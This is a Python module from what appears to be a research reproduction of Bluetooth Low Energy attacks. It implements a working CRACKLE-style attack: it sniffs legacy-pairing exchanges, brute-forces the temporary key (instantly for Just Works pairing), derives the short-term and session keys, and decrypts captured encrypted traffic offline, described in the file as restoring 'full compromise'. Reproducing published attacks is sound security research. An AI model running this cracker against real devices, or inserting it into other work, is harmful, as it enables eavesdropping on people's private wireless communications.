"""CRACKLE-style pairing/key cracking (Ryan 2013, paper §II).

The paper's countermeasure analysis (§VIII) recommends enabling the native
encryption — but legacy pairing's temporary key is brute-forceable from a
sniffed exchange: Just Works uses TK = 0 and passkey entry a 6-digit PIN.
This module closes that loop for the reproduction:

1. :class:`PairingSniffer` rides on the connection sniffer's events and
   reassembles the SMP transcript (Pairing Request/Response, confirm
   values, randoms) plus the LL_ENC_REQ/LL_ENC_RSP session material;
2. :func:`crack_tk` brute-forces the TK against the confirm values
   (instantaneous for Just Works);
3. :class:`SessionCracker` derives STK → session key and decrypts captured
   CCM payloads offline.

Everything here is passive: it turns "encryption limits InjectaBLE to
DoS" (§IV) back into full compromise whenever the victims paired with
Just Works in the attacker's presence.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.core.sniffer import SniffedEvent
from repro.core.state import SniffedConnection
from repro.crypto.ccm import ccm_decrypt
from repro.crypto.pairing import c1, s1, session_key_from_skd
from repro.errors import AttackError, SecurityError
from repro.host.l2cap import CID_SMP, l2cap_decode
from repro.host.smp import (
    OP_PAIRING_CONFIRM,
    OP_PAIRING_RANDOM,
    OP_PAIRING_REQUEST,
    OP_PAIRING_RESPONSE,
)
from repro.ll.pdu.control import EncReq, EncRsp, decode_control_pdu
from repro.ll.pdu.data import DataPdu


@dataclass
class PairingTranscript:
    """Everything a passive observer needs to attack legacy pairing.

    Wire-order byte strings throughout (the crypto layer reverses them).
    """

    preq: Optional[bytes] = None
    pres: Optional[bytes] = None
    initiator_confirm: Optional[bytes] = None
    responder_confirm: Optional[bytes] = None
    initiator_random: Optional[bytes] = None
    responder_random: Optional[bytes] = None
    initiator_address: Optional[bytes] = None
    responder_address: Optional[bytes] = None

    @property
    def complete(self) -> bool:
        """Whether the transcript suffices for a brute-force attempt."""
        return all(value is not None for value in (
            self.preq, self.pres, self.initiator_confirm,
            self.initiator_random, self.responder_random,
            self.initiator_address, self.responder_address,
        ))


@dataclass
class SessionMaterial:
    """The LL encryption-setup values (sniffable in plaintext)."""

    skd_m: Optional[int] = None
    iv_m: Optional[int] = None
    skd_s: Optional[int] = None
    iv_s: Optional[int] = None

    @property
    def complete(self) -> bool:
        """Whether both halves were captured."""
        return all(value is not None for value in (
            self.skd_m, self.iv_m, self.skd_s, self.iv_s))


def _confirm_for_tk(tk: bytes, rand_wire: bytes,
                    transcript: PairingTranscript) -> bytes:
    # The SMP layer carries randoms and confirm values in c1's own order;
    # PDUs and addresses are wire-order (LSB first) and must be reversed.
    assert transcript.preq and transcript.pres
    assert transcript.initiator_address and transcript.responder_address
    return c1(
        tk, rand_wire, transcript.preq[::-1], transcript.pres[::-1],
        0, 0, transcript.initiator_address[::-1],
        transcript.responder_address[::-1],
    )


def crack_tk(transcript: PairingTranscript, max_pin: int = 999_999
             ) -> Optional[int]:
    """Brute-force the temporary key; returns the PIN (0 for Just Works).

    Tests the initiator's confirm value against every candidate PIN.
    Pure-Python AES makes a full 6-digit sweep slow; the interesting
    real-world cases (Just Works TK = 0, short PINs) fall out instantly.
    """
    if not transcript.complete:
        raise AttackError("pairing transcript incomplete")
    assert transcript.initiator_random is not None
    for pin in range(max_pin + 1):
        tk = pin.to_bytes(16, "big")
        confirm = _confirm_for_tk(tk, transcript.initiator_random, transcript)
        if confirm == transcript.initiator_confirm:
            return pin
    return None


def stk_from_pin(transcript: PairingTranscript, pin: int) -> bytes:
    """Derive the STK once the PIN is known."""
    assert transcript.initiator_random and transcript.responder_random
    tk = pin.to_bytes(16, "big")
    return s1(tk, transcript.responder_random, transcript.initiator_random)


class PairingSniffer:
    """Collects the SMP transcript and LL session material from sniffing.

    Attach via ``attacker.sniffer.on_event`` (chaining any previous hook),
    or feed :class:`SniffedEvent` objects manually.
    """

    def __init__(self, conn: SniffedConnection):
        self.conn = conn
        self.transcript = PairingTranscript()
        self.session = SessionMaterial()
        if conn.master_address is not None:
            self.transcript.initiator_address = conn.master_address.to_bytes()
        if conn.slave_address is not None:
            self.transcript.responder_address = conn.slave_address.to_bytes()

    # ------------------------------------------------------------------
    # Feeding
    # ------------------------------------------------------------------

    def on_event(self, event: SniffedEvent) -> None:
        """Consume one sniffed connection event."""
        if event.master_pdu is not None:
            self._consume(event.master_pdu, from_master=True)
        if event.slave_pdu is not None:
            self._consume(event.slave_pdu, from_master=False)

    def _consume(self, pdu: DataPdu, from_master: bool) -> None:
        if pdu.is_control and len(pdu.payload) > 0:
            self._consume_control(pdu.payload)
            return
        if len(pdu.payload) == 0:
            return
        try:
            cid, payload = l2cap_decode(pdu.payload)
        except Exception:
            return
        if cid != CID_SMP or not payload:
            return
        self._consume_smp(payload, from_master)

    def _consume_smp(self, payload: bytes, from_master: bool) -> None:
        opcode = payload[0]
        t = self.transcript
        if opcode == OP_PAIRING_REQUEST:
            t.preq = payload
        elif opcode == OP_PAIRING_RESPONSE:
            t.pres = payload
        elif opcode == OP_PAIRING_CONFIRM:
            if from_master:
                t.initiator_confirm = payload[1:]
            else:
                t.responder_confirm = payload[1:]
        elif opcode == OP_PAIRING_RANDOM:
            if from_master:
                t.initiator_random = payload[1:]
            else:
                t.responder_random = payload[1:]

    def _consume_control(self, payload: bytes) -> None:
        try:
            control = decode_control_pdu(payload)
        except Exception:
            return
        if isinstance(control, EncReq):
            self.session.skd_m = control.skd_m
            self.session.iv_m = control.iv_m
        elif isinstance(control, EncRsp):
            self.session.skd_s = control.skd_s
            self.session.iv_s = control.iv_s


class SessionCracker:
    """Turns a cracked pairing into offline decryption of captured traffic.

    Args:
        pairing: completed :class:`PairingSniffer` state.
        max_pin: brute-force bound for :func:`crack_tk`.
    """

    def __init__(self, pairing: PairingSniffer, max_pin: int = 0):
        self.pairing = pairing
        self.max_pin = max_pin
        self.pin: Optional[int] = None
        self.stk: Optional[bytes] = None
        self.session_key: Optional[bytes] = None
        self._rx_counters = {True: 0, False: 0}

    def crack(self) -> bool:
        """Run the full chain: TK → STK → session key."""
        self.pin = crack_tk(self.pairing.transcript, self.max_pin)
        if self.pin is None:
            return False
        self.stk = stk_from_pin(self.pairing.transcript, self.pin)
        session = self.pairing.session
        if not session.complete:
            return False
        assert session.skd_m is not None and session.skd_s is not None
        self.session_key = session_key_from_skd(self.stk, session.skd_m,
                                                session.skd_s)
        return True

    def decrypt(self, pdu: DataPdu, from_master: bool) -> bytes:
        """Decrypt one captured encrypted PDU.

        Packet counters must be fed in capture order per direction, as the
        CCM nonce includes them.
        """
        if self.session_key is None:
            raise AttackError("session key not recovered yet (call crack())")
        session = self.pairing.session
        assert session.iv_m is not None and session.iv_s is not None
        iv = (session.iv_m.to_bytes(4, "little")
              + session.iv_s.to_bytes(4, "little"))
        counter = self._rx_counters[from_master]
        packed = counter | (int(from_master) << 39)
        nonce = packed.to_bytes(5, "little") + iv
        aad = bytes([pdu.header.to_bytes()[0] & 0b11100011])
        try:
            plaintext = ccm_decrypt(self.session_key, nonce, pdu.payload, aad)
        except SecurityError as exc:
            raise AttackError(f"decryption failed: {exc}") from exc
        self._rx_counters[from_master] += 1
        return plaintext
